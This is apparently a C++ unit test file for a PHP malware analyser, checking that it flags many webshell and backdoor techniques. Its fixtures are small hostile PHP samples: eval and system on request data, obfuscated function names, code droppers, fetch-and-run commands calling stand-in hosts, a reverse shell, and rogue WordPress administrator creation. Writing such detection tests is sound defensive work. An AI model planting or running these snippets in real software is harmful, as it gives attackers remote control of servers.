// Recall by mechanism: every way in which foreign data reach execution that the analyser promises to see.
#include "php/analysis.h"

#include <gtest/gtest.h>

#include "php/fixtures.h"

namespace aplomb::php {
namespace {

using test::find;
using test::Fixture;
using test::listed;
using test::php;

void expect_all(std::span<const Fixture> fixtures) {
  for (const Fixture& fixture : fixtures) {
    Analysis analysis = php(fixture.code);
    EXPECT_NE(find(analysis, fixture.rule, fixture.level), nullptr) << fixture.what << "\n"
                                                                    << listed(analysis);
    EXPECT_FALSE(analysis.hit_limit) << fixture.what;
    EXPECT_TRUE(test::misses_nothing(fixture.code)) << fixture.what;
  }
}

TEST(Analysis, SeesCallbacksThatExecute) {
  constexpr Fixture kFixtures[] = {
      {"spread", "<?php usort(...$_GET);", "php-request-to-callback"},
      {"ReflectionFunction",
       "<?php $f = new ReflectionFunction('system'); $f->invokeArgs(array($_GET['c']));",
       "php-request-to-command"},
      {"method of ArrayObject",
       "<?php $a = new ArrayObject(array($_REQUEST['p'] => 2)); $a->uksort('assert');",
       "php-executing-callback"},
      {"SQLite", "<?php $d->sqliteCreateFunction('f', $_GET['e'], 1);", "php-request-to-callback",
       Level::suspicious},
      {"output buffer", "<?php ob_start('assert'); echo $_REQUEST['p']; ob_end_flush();",
       "php-executing-callback", Level::suspicious},
      {"iterator", "<?php new CallbackFilterIterator(new ArrayIterator(array($_REQUEST['p'])), 'assert');",
       "php-executing-callback"},
      {"filter_var",
       "<?php function f($s) { return eval($s); } filter_var($_POST['a'], FILTER_CALLBACK, "
       "array('options' => 'f'));",
       "php-request-to-eval"},
      {"array functions fold", "<?php $a = join(array_diff(['s', 'a', 'ys', 'tem'], ['a'])); $a($_GET['c']);",
       "php-request-to-command"},
      {"its own comment",
       "<?php /** marker */ class A {} $r = new ReflectionClass('A'); eval($r->getDocComment());",
       "php-own-bytes-executed"},
      {"globals by encoded name",
       "<?php ${\"\\x47LOBALS\"}[\"a\"] = 'c'; ${${\"\\x47LOBALS\"}[\"a\"]} = $_POST['x']; eval(${\"c\"});",
       "php-request-to-eval"},
  };
  expect_all(kFixtures);
}

TEST(Analysis, SeesWhatWritesCode) {
  constexpr Fixture kFixtures[] = {
      {"known code", "<?php fputs(fopen('a.php', 'w'), '<?php eval($_POST[1]); ?>');", "php-request-to-eval"},
      {"encoded code", "<?php file_put_contents($p, base64_decode('PD9waHAgZXZhbCgkX1BPU1RbMV0pOw=='));",
       "php-request-to-eval"},
      {"fetched code",
       "<?php $h = fopen(\"$dir/up.php\", 'w'); fwrite($h, file_get_contents('http://x.invalid/a'));",
       "php-request-to-written-code"},
      {"written, then included", "<?php file_put_contents($t, $_GET['c']); include $t;",
       "php-request-to-eval"},
  };
  expect_all(kFixtures);
}

TEST(Analysis, SeesWhatIntrudersLeave) {
  constexpr Fixture kFixtures[] = {
      {"an administrator for whoever asks",
       "<?php $id = wp_create_user($_GET['u'], $_GET['p']); $u = new WP_User($id); "
       "$u->set_role('administrator');",
       "php-account-made"},
      {"deletes itself, dates back", "<?php touch('./a.php', time() - 86400); unlink(__FILE__);",
       "php-covers-tracks", Level::suspicious},
      {"a variable that nothing sets", "<?php if ($x) system($command);", "php-unset-executed",
       Level::suspicious},
      {"behind its own question",
       "<?php function authenticate() { return $_POST['p'] == 'x'; } if (authenticate()) "
       "system($_POST['c']);",
       "php-request-to-command", Level::suspicious},
      {"shows search engines something else",
       "<?php $a = strtolower($_SERVER['HTTP_USER_AGENT']); if (strpos($a, 'google')) { $c = curl_init(); "
       "echo "
       "curl_exec($c); }",
       "php-cloaked-content", Level::suspicious},
      {"fetches a program", "<?php shell_exec('cd /tmp; wget http://x.invalid/a; chmod 777 a; ./a');",
       "php-fetch-and-run", Level::suspicious},
      {"a name put together in a loop",
       "<?php $f = ''; foreach ([1, 2] as $i) { $f .= 'ab' . chr($i); } $f .= 'x'; $f($_POST['c']);",
       "php-computed-call", Level::suspicious},
  };
  expect_all(kFixtures);
}

TEST(Analysis, SeesWhatShellsBringAlong) {
  constexpr Fixture kFixtures[] = {
      {"a password of its own",
       "<?php $p = '5f4dcc3b5aa765d61d8327deb882cf99'; if (md5($_POST['p']) == $p) { echo 'in'; }",
       "php-own-password", Level::suspicious},
      {"a password of its own, in clear",
       "<?php if ($_REQUEST['p'] == '5f4dcc3b5aa765d61d8327deb882cf99') echo 'in';", "php-own-password",
       Level::suspicious},
      {"a shell for the other end",
       "<?php $s = fsockopen($h, $p); $sh = 'export A=b;/bin/sh -i'; proc_open($sh, $d, $pipes);",
       "php-remote-shell"},
      {"a page hidden in a text",
       "<?php fwrite(fopen('/var/www/o.htm', 'w'), "
       "base64_decode('PGh0bWw+PGgxPm1hcmtlcjwvaDE+PC9odG1sPg=='));",
       "php-hidden-write", Level::suspicious},
      {"any file, shown", "<?php readfile($_GET['f']);", "php-request-to-file", Level::suspicious},
      {"any file, by a handle", "<?php $n = $_GET['f']; $h = fopen($n, 'rb'); fpassthru($h);",
       "php-request-to-file", Level::suspicious},
      {"any file, opened up", "<?php chmod(stripslashes($_GET['p']), 0777);", "php-request-to-file",
       Level::suspicious},
      {"packets to anybody", "<?php $h = $_GET['h']; $f = fsockopen('udp://' . $h, 80); fwrite($f, $x);",
       "php-flood", Level::suspicious},
      {"a style sheet that calls",
       "<?php $x = '<x:value-of select=\"z:function(\\'assert\\',string(.))\"/>'; $p = new XSLTProcessor(); "
       "$p->registerPHPFunctions();",
       "php-executing-callback", Level::suspicious},
      {"code behind a tag", "<?php file_put_contents('code.php', '<?php ' . $_REQUEST['c'] . ' ?>');",
       "php-request-to-written-code"},
      {"code among code", "<?php fputs(fopen('c.php', 'w'), \"<? eval($_POST[c]);?>\");",
       "php-request-to-written-code"},
      {"short tags in what is written",
       "<?php fputs(fopen('c.php', 'w'), pack('H*', "
       "'3c3f406576616c28245f504f53545b315d293f3e'));",
       "php-request-to-eval"},
      {"any name for any content",
       "<?php foreach (scandir('.') as $f) file_put_contents(getcwd() . '/' . $f . '/' . $_POST['n'], "
       "$_POST['c']);",
       "php-request-to-written-code", Level::suspicious},
      {"an uploader that asks only whether it is an upload",
       "<?php if (is_uploaded_file($_FILES['f']['tmp_name'])) move_uploaded_file($_FILES['f']['tmp_name'], "
       "$_FILES['f']['name']);",
       "php-request-to-written-code"},
      {"logs in whoever comes",
       "<?php foreach ($ids as $id) { if (user_can($id, 'administrator')) { wp_set_auth_cookie($id); } }",
       "php-account-made", Level::suspicious},
  };
  expect_all(kFixtures);
}

TEST(Analysis, FollowsDataThroughReferencesAndCallbacks) {
  constexpr Fixture kFixtures[] = {
      {"by reference", "<?php function f(&$v) { $v = $v . 't'; } $a = 'asser'; f($a); $a($_POST['c']);",
       "php-request-to-eval"},
      {"decoded by reference",
       "<?php function f(&$v) { $v = base64_decode($v); } $s = 'ZXZhbCgkX1BPU1RbMV0pOw=='; f($s); "
       "preg_replace('/a/e', '@' . $s, 'a');",
       "php-request-to-eval"},
      {"each element",
       "<?php function f($v, $k) { $x = $k . $v; $x($_POST['x']); } $a = array('ass' => 'ert'); "
       "array_walk($a, 'f');",
       "php-request-to-eval"},
      {"eval under the name of a function",
       "<?php new CallbackFilterIterator(new ArrayIterator(array($_REQUEST['p'])), create_function('$a', "
       "'assert($a);'));",
       "php-executing-callback"},
      {"appended in a loop", "<?php $s = ''; foreach (array($_GET['i']) as $v) { $s .= $v; } ob_start($s);",
       "php-request-to-callback", Level::suspicious},
      {"a name that cannot be read, as a callback",
       "<?php $f = substr(__FILE__, -5, 1) . 'x' ^ hex2bin('1210'); "
       "array_intersect_uassoc(array($_REQUEST['p'] "
       "=> ''), array(1), $f);",
       "php-computed-call", Level::suspicious},
      {"a function that nothing sets", "<?php $x($_POST['w']);", "php-unset-executed", Level::suspicious},
      {"a function named by a file", "<?php file_get_contents('php' . $q)($_GET[2]);", "php-computed-call",
       Level::suspicious},
      {"a copy of $_SERVER", "<?php $r = $_SERVER; eval(base64_decode($r['HTTP_REFERER']));",
       "php-request-to-eval"},
      {"variables around a layer",
       "<?php $d = 'ZXZhbCgkX1BPU1RbMV0pOw=='; eval(base64_decode('ZXZhbChiYXNlNjRfZGVjb2RlKCRkKSk7'));",
       "php-request-to-eval"},
      {"request data around a layer", "<?php $c = $_POST['c']; eval(base64_decode('ZXZhbCgkYyk7'));",
       "php-request-to-eval"},
      {"a comment within the name", "<?php @eval($/*a*/{'_P'.'OST'}['op']);", "php-request-to-eval"},
      {"superglobals by a list",
       "<?php foreach (array('_POST', '_GET') as $r) foreach ($$r as $k => $v) $$k = $v; eval($v);",
       "php-request-to-eval"},
      {"in a picture, twice",
       "<?php $x = exif_read_data('a.jpg'); preg_replace($x['Model'], $x['Make'], '');",
       "php-neighbour-executed"},
      {"cloaked, through a function",
       "<?php function get($u) { $c = curl_init($u); return curl_exec($c); } if (preg_match('/Googlebot/', "
       "$_SERVER['HTTP_USER_AGENT'])) { echo get('http://x.invalid/'); }",
       "php-cloaked-content", Level::suspicious},
  };
  expect_all(kFixtures);
}

TEST(Analysis, SeesRequestDataRunAsCode) {
  constexpr Fixture kFixtures[] = {
      {"eval", "<?php eval($_POST['x']);", "php-request-to-eval"},
      {"silenced assert", "<?php @assert($_REQUEST['x']);", "php-request-to-eval"},
      {"create_function", "<?php $f = create_function('', $_POST['x']); $f();", "php-request-to-eval"},
      {"preg_replace /e", "<?php preg_replace('/.*/e', $_POST['x'], '');", "php-request-to-eval"},
      {"preg_replace /e on the subject", "<?php preg_replace('#(.*)#ise', '\\1', $_COOKIE['x']);",
       "php-request-to-eval"},
      {"pattern of the visitor", "<?php preg_replace($_GET['p'], $_GET['r'], 'x');", "php-request-to-eval"},
      {"mb_ereg_replace e", "<?php mb_ereg_replace('.*', $_GET['r'], '', 'e');", "php-request-to-eval"},
      {"decoded first", "<?php eval(gzinflate(base64_decode($_COOKIE['a'])));", "php-request-to-eval"},
      {"inside other text", "<?php $c = trim($_GET['c']); eval(\"return $c;\");", "php-request-to-eval"},
      {"header", "<?php $h = getallheaders(); eval($h['X-Run']);", "php-request-to-eval"},
      {"header of $_SERVER", "<?php eval($_SERVER['HTTP_X_RUN']);", "php-request-to-eval"},
      {"body", "<?php eval(file_get_contents('php://input'));", "php-request-to-eval"},
      {"body by handle", "<?php $h = fopen('php://input', 'r'); eval(fread($h, 99));", "php-request-to-eval"},
      {"filter_input", "<?php eval(filter_input(INPUT_POST, 'a'));", "php-request-to-eval"},
      {"$GLOBALS", "<?php eval($GLOBALS['_POST']['x']);", "php-request-to-eval"},
      {"built superglobal", "<?php eval(${'_PO' . 'ST'}['a']);", "php-request-to-eval"},
      {"superglobal by name", "<?php $n = '_GET'; eval($$n['a']);", "php-request-to-eval"},
      {"extract", "<?php extract($_REQUEST); eval($code);", "php-request-to-eval"},
      {"parse_str", "<?php parse_str($_SERVER['QUERY_STRING'], $q); eval($q['a']);", "php-request-to-eval"},
      {"variables from a loop", "<?php foreach ($_POST as $k => $v) { $$k = $v; } eval($run);",
       "php-request-to-eval"},
      {"foreach value", "<?php foreach ($_POST as $v) eval($v);", "php-request-to-eval"},
      {"list", "<?php list($a, $b) = explode('|', $_POST['x']); eval($b);", "php-request-to-eval"},
      {"one arm of a branch", "<?php if ($a) { $c = 'x'; } else { $c = $_GET['c']; } eval($c);",
       "php-request-to-eval"},
      {"goto", "<?php goto a; b: eval($x); goto c; a: $x = $_POST['k']; goto b; c:", "php-request-to-eval"},
      {"loop carries it", "<?php while (1) { eval($x); $x = $_POST['k']; }", "php-request-to-eval"},
      {"nullsafe default", "<?php eval($_POST['x'] ?? $_GET['x'] ?? '');", "php-request-to-eval"},
      {"alternative syntax", "<?php if (1): eval($_POST['x']); endif;", "php-request-to-eval"},
      {"match", "<?php $c = match(1) { 1 => $_GET['c'], default => '' }; eval($c);", "php-request-to-eval"},
      {"in html", "<p>text</p><?= eval($_GET['c']) ?>", "php-request-to-eval"},
  };
  expect_all(kFixtures);
}

TEST(Analysis, FollowsDataThroughFunctionsAndObjects) {
  constexpr Fixture kFixtures[] = {
      {"two functions",
       "<?php function get() { return $_REQUEST['z']; } function run($c) { eval($c); } run(get());",
       "php-request-to-eval"},
      {"called before it is declared", "<?php run($_POST['a']); function run($c) { eval($c); }",
       "php-request-to-eval"},
      {"nested functions", "<?php function o() { function i($x) { passthru($x); } i($_POST['a']); } o();",
       "php-request-to-command"},
      {"destructor",
       "<?php class A { public $c; function __destruct() { eval($this->c); } } $a = new A; $a->c = "
       "$_POST['p'];",
       "php-request-to-eval"},
      {"constructor",
       "<?php class Q { private $v; function __construct($v) { $this->v = $v; } function run() { "
       "eval($this->v); } } (new Q($_POST['v']))->run();",
       "php-request-to-eval"},
      {"static method", "<?php class B { static function go($x) { system($x); } } B::go($_GET['c']);",
       "php-request-to-command"},
      {"static property", "<?php class B { static $c; } B::$c = $_GET['c']; eval(B::$c);",
       "php-request-to-eval"},
      {"anonymous class", "<?php $o = new class { function go($x) { eval($x); } }; $o->go($_POST['a']);",
       "php-request-to-eval"},
      {"closure", "<?php $f = function ($x) { eval($x); }; $f($_POST['a']);", "php-request-to-eval"},
      {"closure captures", "<?php $c = $_POST['a']; $f = function () use ($c) { eval($c); }; $f();",
       "php-request-to-eval"},
      {"closure called in place", "<?php (function ($x) { system($x); })($_GET['a']);",
       "php-request-to-command"},
      {"global", "<?php $c = $_POST['a']; function f() { global $c; eval($c); } f();", "php-request-to-eval"},
      {"function by name", "<?php function run($c) { eval($c); } call_user_func('run', $_POST['a']);",
       "php-request-to-eval"},
  };
  expect_all(kFixtures);
}

TEST(Analysis, SeesRequestDataRunAsCommands) {
  constexpr Fixture kFixtures[] = {
      {"system", "<?php system($_GET['c']);", "php-request-to-command"},
      {"shell_exec of a header", "<?php echo shell_exec($_SERVER['HTTP_X_CMD']);", "php-request-to-command"},
      {"backticks", "<?php echo `$_GET[c]`;", "php-request-to-command"},
      {"behind a shell", "<?php exec('sh -c ' . $_POST['c'], $out);", "php-request-to-command"},
      {"with redirection", "<?php popen($_POST['c'] . ' 2>&1', 'r');", "php-request-to-command"},
      {"proc_open", "<?php proc_open($_COOKIE['c'], [], $pipes);", "php-request-to-command"},
  };
  expect_all(kFixtures);
}

TEST(Analysis, SeesNamesThatAreBuilt) {
  constexpr Fixture kFixtures[] = {
      {"concatenated", "<?php $f = 'ass' . 'ert'; $f($_POST['q']);", "php-request-to-eval"},
      {"called in place", "<?php ('sys' . 'tem')($_POST['q']);", "php-request-to-command"},
      {"table",
       "<?php $t = array('s','y','t','e','m'); $f = $t[0].$t[1].$t[0].$t[2].$t[3].$t[4]; $f($_GET['c']);",
       "php-request-to-command"},
      {"indexed text", "<?php $s = 'abcersyt'; $f = $s[0].$s[5].$s[5].$s[3].$s[4].$s[7]; $f($_GET['c']);",
       "php-request-to-eval"},
      {"implode", "<?php $f = implode('', ['p','ass','thru']); $f($_GET['c']);", "php-request-to-command"},
      {"chr", "<?php $f = chr(97).chr(115).chr(115).chr(101).chr(114).chr(116); $f($_POST[0]);",
       "php-request-to-eval"},
      {"xor", "<?php $f = ('`' ^ \"\\x01\") . 'ss' . ('%' ^ '@') . 'rt'; $f($_GET['z']);",
       "php-request-to-eval"},
      {"not", "<?php $f = ~\"\\x9e\\x8c\\x8c\\x9a\\x8d\\x8b\"; $f($_GET['z']);", "php-request-to-eval"},
      {"strrev", "<?php $f = strrev('metsys'); $f($_GET['z']);", "php-request-to-command"},
      {"rot13", "<?php $f = str_rot13('flfgrz'); $f($_GET['z']);", "php-request-to-command"},
      {"str_replace", "<?php $f = str_replace('#', '', 's#ys#te#m'); $f($_GET['z']);",
       "php-request-to-command"},
      {"sprintf", "<?php $f = sprintf('%s%c', 'syste', 109); $f($_GET['z']);", "php-request-to-command"},
      {"escapes", "<?php $f = \"\\x73\\x79\\x73\\164\\145\\155\"; $f($_GET['z']);", "php-request-to-command"},
      {"incremented letters", "<?php $_ = 'r'; $_++; $f = $_ . 'ystem'; $f($_GET['z']);",
       "php-request-to-command"},
      {"appended", "<?php $f = 'sys'; $f .= 'tem'; $f($_GET['z']);", "php-request-to-command"},
      {"bare words", "<?php $f = sys . te . m; $f($_GET['z']);", "php-request-to-command"},
      {"bare words and xor", "<?php $f = rxrudl ^ \"\\1\\1\\1\\1\\1\\1\"; $f($_GET['z']);",
       "php-request-to-command"},
      {"name of the file", "<?php $f = substr(basename(__FILE__), 0, -4); $f($_POST['c']);",
       "php-request-to-callback"},
      {"constant", "<?php define('RUN', 'sys' . 'tem'); $f = RUN; $f($_GET['z']);", "php-request-to-command"},
      {"element", "<?php $k = ['x' => 'sys']; $k['x'] .= 'tem'; $k['x']($_POST['q']);",
       "php-request-to-command"},
      {"name of a callback", "<?php array_filter(array($_POST['a']), base64_decode('YXNzZXJ0'));",
       "php-request-to-eval"},
      {"hidden name alone", "<?php $f = 'ass' . 'ert'; $f($_POST['q']);", "php-disguised-call",
       Level::suspicious},
  };
  expect_all(kFixtures);
}

TEST(Analysis, SeesFunctionsThatTheVisitorChooses) {
  constexpr Fixture kFixtures[] = {
      {"called", "<?php $_GET['f']($_GET['x']);", "php-request-to-callback"},
      {"call_user_func", "<?php call_user_func($_POST['f'], $_POST['x']);", "php-request-to-callback"},
      {"array_map", "<?php array_map($_GET['f'], $_GET['x']);", "php-request-to-callback"},
      {"usort", "<?php usort($_GET['a'], $_GET['f']);", "php-request-to-callback"},
      {"shutdown", "<?php register_shutdown_function($_REQUEST['f'], $_REQUEST['a']);",
       "php-request-to-callback"},
      {"reflection", "<?php $r = new ReflectionFunction($_GET['f']); $r->invoke($_GET['x']);",
       "php-request-to-callback"},
      {"fixed callback", "<?php array_map('assert', array($_POST['x']));", "php-request-to-eval"},
      {"fixed comparison", "<?php usort($_GET['a'], 'assert');", "php-request-to-eval"},
      {"walked", "<?php array_walk($_POST, 'system');", "php-request-to-command"},
  };
  expect_all(kFixtures);
}

TEST(Analysis, SeesFilesThatTheVisitorChoosesOrWrites) {
  constexpr Fixture kFixtures[] = {
      {"include", "<?php include($_GET['p']);", "php-request-to-include"},
      {"include with a suffix", "<?php include $_GET['p'] . '.php';", "php-request-to-include"},
      {"upload", "<?php require_once $_FILES['f']['tmp_name'];", "php-request-to-include"},
      {"body", "<?php include 'php://input';", "php-request-to-include"},
      {"written code", "<?php file_put_contents('x.php', $_POST['c']);", "php-request-to-written-code"},
      {"written anywhere", "<?php file_put_contents($_POST['n'], $_POST['c']);",
       "php-request-to-written-code"},
      {"by handle", "<?php $h = fopen('a.phtml', 'w'); fwrite($h, base64_decode($_POST['d']));",
       "php-request-to-written-code"},
      {"settings", "<?php file_put_contents('.htaccess', $_POST['c']);", "php-request-to-written-code"},
      {"uploader", "<?php move_uploaded_file($_FILES['f']['tmp_name'], $_FILES['f']['name']);",
       "php-request-to-written-code"},
      {"uploader into a folder",
       "<?php copy($_FILES['f']['tmp_name'], 'up/' . basename($_FILES['f']['name']));",
       "php-request-to-written-code"},
      {"dropper", "<?php file_put_contents('a.php', file_get_contents('http://198.51.100.1/a.txt'));",
       "php-request-to-written-code"},
      {"unserialize", "<?php $o = unserialize($_COOKIE['o']);", "php-request-to-unserialize",
       Level::suspicious},
      {"mass mail", "<?php foreach ($_POST['to'] as $t) { mail($t, 's', 'b'); }", "php-mass-mail",
       Level::suspicious},
  };
  expect_all(kFixtures);
}

TEST(Analysis, SeesCodeFromElsewhere) {
  constexpr Fixture kFixtures[] = {
      {"fetched", "<?php eval(file_get_contents('http://198.51.100.1/x'));", "php-remote-code"},
      {"curl", "<?php $c = curl_init('x'); eval('?>' . curl_exec($c));", "php-remote-code"},
      {"included", "<?php include 'https://198.51.100.1/x';", "php-remote-code"},
      {"own bytes", "<?php $d = file_get_contents(__FILE__); eval(gzinflate(substr($d, 200)));",
       "php-own-bytes-executed", Level::suspicious},
      {"own data",
       "<?php $h = fopen(__FILE__, 'r'); fseek($h, __COMPILER_HALT_OFFSET__); eval(fread($h, 999)); "
       "__halt_compiler();x",
       "php-own-bytes-executed"},
      {"picture beside it", "<?php eval(file_get_contents('logo.png'));", "php-neighbour-executed"},
      {"hidden path of a picture",
       "<?php @include \"\\x2f\\x76\\x61\\x72\\x2f\\x77\\x77\\x77\\x2f\\x66\\x2e\\x69\\x63\\x6f\";",
       "php-neighbour-executed"},
      {"plain path of a picture", "<?php include 'fav.ico';", "php-neighbour-executed", Level::suspicious},
  };
  expect_all(kFixtures);
}

TEST(Analysis, NamesThePathWithItsLines) {
  Analysis analysis = php("<?php\n$a = $_POST['k'];\n$b = trim($a);\neval($b);\n");
  const Finding* found = find(analysis, "php-request-to-eval", Level::malicious);
  ASSERT_NE(found, nullptr);
  EXPECT_EQ(found->line, 4U);
  EXPECT_EQ(found->reason.text(),
            "line 2: request data ($_POST['k']) reach eval at line 4, which runs them as PHP");
}

TEST(Analysis, ReportsAGateBesideTheSinkItGuards) {
  for (std::string_view code :
       {"<?php if (date('Ymd') > 20300101) { eval($_POST['x']); }",
        "<?php if (time() < 1900000000) exit; eval($_POST['x']);",
        "<?php if ($_SERVER['HTTP_REFERER'] == 'a') { if (1) system($_GET['c']); }",
        "<?php if (strpos($_SERVER['HTTP_USER_AGENT'], 'bot') === false) exit(); eval($_POST['x']);"}) {
    Analysis analysis = php(code);
    EXPECT_EQ(worst(analysis.findings), Level::malicious) << code;
    bool is_gated = find(analysis, "php-dormant-gate", Level::suspicious) != nullptr;
    EXPECT_TRUE(is_gated) << code;
  }
  EXPECT_EQ(find(php("<?php if ($a) { eval($_POST['x']); }"), "php-dormant-gate", Level::suspicious),
            nullptr);
}

TEST(Analysis, ReadsAFileInEveryDialectThatWouldRunIt) {
  constexpr Fixture kFixtures[] = {
      {"short tag", "<? eval($_POST['a']);", "php-request-to-eval"},
      {"script tag", "<script language=\"php\">eval($_POST['a']);</script>", "php-request-to-eval"},
      {"asp tag", "<% eval($_POST['a']); %>", "php-request-to-eval"},
      {"short tag hides code in a string", "<? ' ?><?php eval($_POST['a']); // '", "php-request-to-eval"},
      {"attribute hides code in a string", "<?php #[ '\neval($_POST['a']); #'", "php-request-to-eval"},
      {"code in an attribute", "<?php #[A(eval($_POST['a']))]\nfunction f() {}", "php-request-to-eval"},
  };
  expect_all(kFixtures);
}

TEST(Analysis, SeesCodePushedOutOfSight) {
  std::string code = "<?php $a = 1;" + std::string(300, ' ') + "echo 'token';\n";
  EXPECT_NE(find(php(code), "php-hidden-code", Level::suspicious), nullptr);
  std::string honest = "<?php $a = 1;\n" + std::string(300, ' ') + "echo 'token';\n";
  EXPECT_TRUE(php(honest).findings.empty());
  std::string remark = "<?php $a = 1;" + std::string(300, ' ') + "// remark\n";
  EXPECT_TRUE(php(remark).findings.empty());
}

TEST(Analysis, SeesALongEncodedRunWhereCodeCouldRunIt) {
  std::string blob(1200, 'Q');
  EXPECT_NE(find(php("<?php $b = '" + blob + "'; $f($b);"), "php-long-encoded-blob", Level::suspicious),
            nullptr);
  EXPECT_TRUE(php("<?php $picture = 'iVBOR" + blob + "'; $f($picture);").findings.empty());
  EXPECT_TRUE(php("<?php return '" + blob + "';").findings.empty());
}

}  // namespace
}  // namespace aplomb::php
